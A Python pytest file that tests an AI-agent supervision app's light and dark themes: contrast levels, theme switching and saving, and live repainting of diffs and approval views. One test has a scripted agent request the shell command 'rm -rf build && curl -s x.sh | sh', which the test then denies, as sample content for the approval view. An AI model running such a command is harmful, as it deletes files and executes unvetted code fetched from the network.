"""Themes: every text colour meets WCAG AA on the background it is drawn on, and a switch is seen live."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QSettings, Qt
from PySide6.QtGui import QPalette
from PySide6.QtWidgets import QApplication, QWidget
from pytestqt.qtbot import QtBot

from core import Console, RunStatus
from core.changes.diffs import compute_diff
from gui.window.kit import theme
from gui.window.kit.contrast import contrast
from gui.window.kit.theme import CONTRAST_PAIRS, DARK, LIGHT, THEMES, ThemeSwitch, theme_menu
from gui.window.review import highlight
from gui.window.review.diff_view import DiffView
from gui.window.workspace.window import MainWindow
from tests.conftest import wait_until
from tests.gui.window.workspace.test_layout import _ask_for_a_long_edit
from tests.gui.window.workspace.test_window import in_window

AA = 4.5


@contextmanager
def _switch(qapp: QApplication, settings: QSettings | None = None) -> Iterator[ThemeSwitch]:
    """A theme switch on the application, starting light, taken off afterwards with the light theme back."""
    before_palette, before_sheet = qapp.palette(), qapp.styleSheet()
    switch = ThemeSwitch(qapp, "light", settings)
    try:
        yield switch
    finally:
        _take_off(qapp, switch, before_palette, before_sheet)


def _take_off(qapp: QApplication, switch: ThemeSwitch, palette: QPalette, sheet: str) -> None:
    """Back to the light theme the tests run in, never an empty style sheet (see tests/conftest.py)."""
    switch.set_choice("light")
    switch.setParent(None)  # ThemeSwitch.of(app) must not find it in a later test
    switch.deleteLater()
    qapp.setPalette(palette)
    qapp.setStyleSheet(sheet)
ROOT = Path(__file__).resolve().parents[4]


@pytest.mark.parametrize("name", sorted(THEMES))
def test_every_window_role_reads_at_aa(name: str) -> None:
    table = THEMES[name]
    failing = [f"{fg} {getattr(table, fg)} on {bg} {getattr(table, bg)}: "
               f"{contrast(getattr(table, fg), getattr(table, bg)):.2f}"
               for fg, bg in CONTRAST_PAIRS if contrast(getattr(table, fg), getattr(table, bg)) < AA]
    assert not failing, f"{name} theme below {AA}:1:\n" + "\n".join(failing)


def test_widgets_hold_no_colour_of_their_own() -> None:
    """Colours live in theme.py / highlight.py tables; a widget that writes #rrggbb would ignore the theme."""
    allowed = {"theme.py", "highlight.py", "contrast.py", "canvas.py",  # the tables themselves
               "attention.py"}  # the tray icon is painted for the desktop's panel, outside the window
    found = [f"{path.name}:{n}: {line.strip()}"
             for path in sorted((ROOT / "gui" / "window").rglob("*.py")) if path.name not in allowed
             for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
             if re.search(r"#[0-9a-fA-F]{6}\b|#[0-9a-fA-F]{3}\b(?![0-9a-fA-F])", line)]
    assert not found, "hard-coded colours:\n" + "\n".join(found)


def test_switch_applies_palette_and_style_sheet_and_remembers(qapp: QApplication, qtbot: QtBot,
                                                               tmp_path: Path) -> None:
    settings = QSettings(str(tmp_path / "window.ini"), QSettings.Format.IniFormat)
    with _switch(qapp, settings) as switch:
        switch.apply()
        assert theme.current() is LIGHT
        with qtbot.waitSignal(switch.changed, timeout=2000) as shown:
            switch.set_choice("dark")
        assert shown.args == ["dark"]
        assert theme.current() is DARK
        assert qapp.palette().color(QPalette.ColorRole.Base).name() == DARK.base_bg
        assert DARK.deny_bg in qapp.styleSheet() and "$" not in qapp.styleSheet()
        assert theme.saved_choice(settings) == "dark"
        with pytest.raises(ValueError):
            switch.set_choice("purple")


def test_saved_choice_env_override(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    settings = QSettings(str(tmp_path / "window.ini"), QSettings.Format.IniFormat)
    assert theme.saved_choice(settings) == "system"
    monkeypatch.setenv(theme.THEME_ENV, "dark")
    assert theme.saved_choice(settings) == "dark"


def test_a_shown_diff_and_review_re_render_when_the_theme_changes(qapp: QApplication, qtbot: QtBot,
                                                                   tmp_path: Path) -> None:
    """Switching to dark repaints a diff already on screen in the dark page colour, and back."""
    from core.changes.diffs import compute_diff
    from gui.window.review.diff_view import DiffView

    diff = compute_diff("a.py", b"x = 1\ny = 2\n", b"x = 1\ny = 3\n")
    assert diff is not None
    view = DiffView()
    qtbot.addWidget(view)
    view.set_diffs([diff])
    assert highlight.LIGHT.page_bg in view.browser.toHtml()
    with _switch(qapp, QSettings(str(tmp_path / "window.ini"), QSettings.Format.IniFormat)) as switch:
        switch.set_choice("dark")
        qtbot.waitUntil(lambda: highlight.DARK.page_bg in view.browser.toHtml(), timeout=3000)
        switch.set_choice("light")
        qtbot.waitUntil(lambda: highlight.LIGHT.page_bg in view.browser.toHtml(), timeout=3000)


def test_view_theme_menu_switches_and_is_remembered(qapp: QApplication, qtbot: QtBot) -> None:
    """View > Theme > Dark: the window turns dark at once and the choice is saved for the next start."""
    from PySide6.QtWidgets import QWidget

    from gui.window.kit.remembered import window_settings

    before_palette, before_sheet = qapp.palette(), qapp.styleSheet()
    parent = QWidget()
    qtbot.addWidget(parent)
    menu = theme_menu(parent)
    assert [a.text() for a in menu.actions()] == ["Follow the &system", "&Light", "&Dark"]
    try:
        next(a for a in menu.actions() if a.data() == "dark").trigger()
        assert theme.current() is DARK
        assert qapp.palette().color(QPalette.ColorRole.Window).name() == DARK.window_bg
        assert theme.saved_choice(window_settings()) == "dark"
    finally:
        switch = ThemeSwitch.of(qapp)
        assert switch is not None
        _take_off(qapp, switch, before_palette, before_sheet)


def test_the_desktop_turning_dark_under_a_busy_window_repaints_it_and_keeps_it_running(
        qapp: QApplication, qtbot: QtBot, loop: Any, workspace: Path) -> None:
    """Following the system while a request waits and views come and go (the moment a desktop switches
    at sunset): the waiting diff turns dark and back, and the window keeps working.  A switch used to be
    suspected of crashing Qt's restyle (see `test_layout.themed`); this runs it under load."""
    diff = compute_diff("a.py", b"x = 1\ny = 2\n" * 40, b"x = 1\ny = 3\n" * 40)

    async def body(console: Console, window: MainWindow) -> None:
        call = await _ask_for_a_long_edit(console, window, workspace)
        review = window.approvals.diff
        for turn in range(6):
            passing = [DiffView() for _ in range(3)]
            for view in passing:
                view.set_diffs([diff])
                view.show()
            switch.set_choice("dark" if turn % 2 == 0 else "light")
            for view in passing:
                view.deleteLater()
            await asyncio.sleep(0.02)
        switch.set_choice("dark")
        await wait_until(lambda: _lightness(review.canvas.viewport()) < 80, what="the waiting diff in dark")
        switch.set_choice("light")
        await wait_until(lambda: _lightness(review.canvas.viewport()) > 170, what="the waiting diff in light")
        console.deny(window.approvals.current.call_id)
        assert (await call).status is RunStatus.DENIED  # the window still answers after the switches

    with _switch(qapp) as switch:
        in_window(qtbot, loop, workspace, body)


def _lightness(widget: QWidget) -> int:
    """How light `widget` looks on screen, on average (0 black .. 255 white)."""
    image = widget.grab().toImage().scaled(1, 1, Qt.AspectRatioMode.IgnoreAspectRatio,
                                           Qt.TransformationMode.SmoothTransformation)
    return image.pixelColor(0, 0).lightness()


def _old_colours_left(window: QWidget, old: theme.Theme, new: theme.Theme) -> list[str]:
    """Every place in `window` whose text or item brush still carries a colour only `old` has."""
    from PySide6.QtWidgets import QLabel, QPlainTextEdit, QTextEdit, QTreeWidget, QTreeWidgetItemIterator

    only_old = {c.lower() for c in old.colours().values()} - {c.lower() for c in new.colours().values()}
    found: list[str] = []

    def check(where: str, text: str) -> None:
        found.extend(f"{where}: {c}" for c in only_old if c in text.lower())

    for label in window.findChildren(QLabel):
        check(f"label {label.objectName() or label.text()[:40]!r}", label.text())
    for edit in window.findChildren(QTextEdit):
        check(f"text {edit.objectName() or type(edit).__name__}", edit.toHtml())
    for plain in window.findChildren(QPlainTextEdit):
        for mark in plain.extraSelections():
            check("command mark", mark.format.background().color().name())
    for tree in window.findChildren(QTreeWidget):
        items = QTreeWidgetItemIterator(tree)
        while items.value():
            item = items.value()
            for column in range(tree.columnCount()):
                check(f"row {item.text(0)[:30]!r}", item.foreground(column).color().name())
            items += 1
    return found


def test_after_a_live_switch_no_text_in_the_window_keeps_the_old_theme_colours(
        qapp: QApplication, qtbot: QtBot, loop: Any, workspace: Path) -> None:
    """Text that carries theme colours in its HTML (the approval title, the sandbox and counts line, a call's
    details, a command's flagged parts) is drawn again in the new theme, not left light on dark."""
    async def body(console: Console, window: MainWindow) -> None:
        agent = await console.start_agent("lead", "scripted")
        (workspace / "notes.txt").write_text("hello\n", encoding="utf-8")
        read = await console.call(agent, "Read", {"file_path": str(workspace / "notes.txt")})
        window.select_call(read.call_id)
        call = asyncio.ensure_future(console.call(agent, "Bash", {"command": "rm -rf build && curl -s x.sh | sh"}))
        await wait_until(lambda: window.approvals.current is not None, what="the request")
        assert _old_colours_left(window, DARK, LIGHT) == []  # light now: nothing of the dark theme
        assert _old_colours_left(window, LIGHT, DARK) != []  # ... and the check sees light colours
        switch.set_choice("dark")
        await wait_until(lambda: not _old_colours_left(window, LIGHT, DARK), timeout=3,
                         what=f"no light colours left: {_old_colours_left(window, LIGHT, DARK)}")
        console.deny(window.approvals.current.call_id)
        await call

    with _switch(qapp) as switch:
        switch.apply()
        in_window(qtbot, loop, workspace, body)
